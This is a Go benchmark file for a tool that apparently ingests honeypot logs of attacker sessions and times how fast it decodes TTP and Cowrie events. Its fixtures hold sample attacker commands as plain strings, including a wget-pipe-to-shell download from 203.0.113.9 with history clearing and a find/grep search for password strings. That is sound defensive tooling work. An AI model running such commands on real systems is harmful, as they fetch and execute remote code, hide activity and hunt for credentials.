package ingest

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"ttpctl/internal/event"
	"ttpctl/internal/ingest/aggregate"
	"ttpctl/internal/lines"
)

// eventLine returns a ready-made event of 423 bytes with 70 bytes of command
// text, the average of PERF.md.
func eventLine(n int) string {
	l := fmt.Sprintf(`{"source_kind":"command","source_id":"sess-%08d#cmd1","attacker_uuid":"3a90f681-a007-5d06-8036-a9c1661decb1","identity_uuid":null,"session_id":"sess-%08d","decky_id":"decky-07","ts":"2026-03-18T10:26:59.715732Z","payload":{"command_text":"cd /tmp && wget http://203.0.113.9/x.sh -O- | sh; history -c; ls -la /","uid":0,"user":"root","pwd":"/root","src":"203.0.113.9","service":"ssh","sensor_build":"`, n, n)
	return l + strings.Repeat("x", 423-len(l)-len(`"}}`)) + `"}}`
}

// filled returns a batch of the given lines, not decoded yet.
func filled(f format, texts ...string) *Batch {
	b := &Batch{File: "test", log: "test", format: &f, block: lines.Block{First: 1}}
	for _, l := range texts {
		start := len(b.block.Text)
		b.block.Text = append(append(b.block.Text, l...), '\n')
		b.block.Lines = append(b.block.Lines, lines.Line{Start: start, End: start + len(l)})
		b.lines = append(b.lines, line{})
	}
	return b
}

func newTestAssembler(f *format) assembler {
	return f.newAssembler(aggregate.New(aggregate.Config{}), event.AllFields())
}

// sensorLine returns a ready-made event of 409 bytes as sensors write them: with
// the attacker's address, of which attacker_uuid is made.
func sensorLine(n int) string {
	ip := fmt.Sprintf("203.0.%d.%d", n*7%256, n*13%256)
	return fmt.Sprintf(`{"source_kind": "command", "source_id": "s%08x#cmd%d", "attacker_uuid": null, "attacker_ip": %q, "identity_uuid": null, "session_id": "s%08x", "decky_id": "decoy-%02d", "ts": "2026-09-14T01:12:%02d.%06dZ", "payload": {"command_text": "find / -type f -name \"*.conf\" -mtime -%d | xargs grep -l passw", "uid": 0, "user": "root", "src": %q, "pwd": "/root", "service": "ssh", "decky": "decoy-%02d"}}`,
		n/7, n%7, ip, n/7, n%40, n%60, n, n%90, ip, n%40)
}

func BenchmarkDecodeTTP(bm *testing.B) {
	for _, kind := range []struct {
		name string
		line func(n int) string
	}{{"uuid", eventLine}, {"address", sensorLine}} {
		bm.Run(kind.name, func(bm *testing.B) { benchmarkTTP(bm, kind.line) })
	}
}

func benchmarkTTP(bm *testing.B, line func(n int) string) {
	var lines []string
	size := 0
	for n := range 300 {
		lines = append(lines, line(n))
		size += len(lines[n])
	}
	b := filled(ttpFormat(), lines...)
	d := newTTPDecoder(event.AllFields())
	bm.SetBytes(int64(size / len(lines)))
	bm.ReportAllocs()
	for done := 0; done < bm.N; done += len(lines) {
		for i := range b.lines {
			b.lines[i].fate = pending
		}
		b.dropEvents(0)
		b.decode(d, false)
	}
	if len(b.events) != len(lines) {
		bm.Fatalf("decoded %d events of %d lines", len(b.events), len(lines))
	}
}

func BenchmarkDecodeCowrie(bm *testing.B) {
	const l = `{"eventid":"cowrie.command.input","input":"uname -a; cat /proc/cpuinfo","message":"CMD: uname -a; cat /proc/cpuinfo","sensor":"ip-192-0-2-7","uuid":"ae0aab00-22b0-11f1-b096-0affcd2dea01","timestamp":"2026-03-18T13:28:51.360735Z","src_ip":"203.0.113.9","session":"986d134d7985","protocol":"ssh"}`
	b := filled(cowrieFormat(), slicesRepeat(l, 300)...)
	d, a := b.format.newDecoder(event.AllFields()), newTestAssembler(b.format)
	bm.SetBytes(int64(len(l)))
	bm.ReportAllocs()
	for done := 0; done < bm.N; done += len(b.lines) {
		for i := range b.lines {
			b.lines[i].fate = pending
		}
		b.dropEvents(0)
		b.decode(d, false)
		b.assemble(a, false)
	}
	if len(b.events) != len(b.lines) {
		bm.Fatalf("made %d events of %d lines", len(b.events), len(b.lines))
	}
}

func slicesRepeat(s string, n int) []string {
	ss := make([]string, n)
	for i := range ss {
		ss[i] = s
	}
	return ss
}

// noRules evaluates nothing.
type noRules struct{}

func (noRules) Evaluate(dst []event.Tag, _ *event.Event) []event.Tag { return dst }

func BenchmarkRun(bm *testing.B) {
	var log bytes.Buffer
	for n := range 20_000 {
		log.WriteString(eventLine(n))
		log.WriteByte('\n')
	}
	for _, workers := range []int{1, 2} {
		bm.Run(fmt.Sprintf("workers=%d", workers), func(bm *testing.B) {
			bm.SetBytes(int64(log.Len()))
			bm.ReportAllocs()
			for bm.Loop() {
				a, err := Run(bm.Context(), []Input{{Name: "log", Reader: bytes.NewReader(log.Bytes())}}, Config{Workers: workers},
					func() Evaluator { return noRules{} }, func(*Batch) error { return nil })
				if err != nil || a.Events != 20_000 {
					bm.Fatalf("Run() = %d events, %v", a.Events, err)
				}
			}
			bm.ReportMetric(20_000*float64(bm.N)/bm.Elapsed().Seconds(), "events/s")
		})
	}
}
